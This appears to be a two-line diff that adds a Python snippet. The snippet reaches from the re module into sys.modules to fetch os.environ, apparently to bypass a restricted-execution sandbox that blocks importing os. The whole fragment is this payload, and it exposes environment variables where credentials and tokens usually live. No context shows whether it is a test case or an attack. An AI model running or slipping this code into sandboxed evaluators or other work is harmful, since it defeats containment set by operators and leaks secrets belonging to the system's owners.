@@ -1,0 +1,2 @@
+import re
+return getattr(re, "__dict__")["sys"].modules["os"].environ
